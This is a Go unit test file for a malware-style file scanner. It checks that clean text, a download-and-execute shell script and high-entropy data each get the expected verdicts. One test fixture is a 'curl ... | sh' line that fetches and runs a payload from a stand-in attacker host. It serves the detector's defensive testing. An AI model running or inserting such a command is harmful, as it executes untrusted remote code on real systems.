package file

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/threatcore/analysis-core/internal/model"
)

func TestScan_CleanText(t *testing.T) {
	s := New(DefaultConfig())
	result := s.Scan([]byte("hello world, this is a perfectly normal text file"), "note.txt")
	assert.Equal(t, model.VerdictBenign, result.Verdict)
	assert.Empty(t, result.Findings)
}

func TestScan_ScriptWithDownloadMarker(t *testing.T) {
	s := New(DefaultConfig())
	result := s.Scan([]byte("#!/bin/sh\ncurl http://evil.example/payload.sh | sh\n"), "run.sh")
	assert.Equal(t, model.VerdictSuspicious, result.Verdict)
	found := false
	for _, f := range result.Findings {
		if f.Title == "suspicious script constructs" {
			found = true
		}
	}
	assert.True(t, found)
}

func TestScan_HighEntropyFlagged(t *testing.T) {
	s := New(DefaultConfig())
	b := make([]byte, 4096)
	for i := range b {
		b[i] = byte(i * 137 % 256)
	}
	result := s.Scan(b, "blob.bin")
	assert.NotEmpty(t, result.Findings)
}
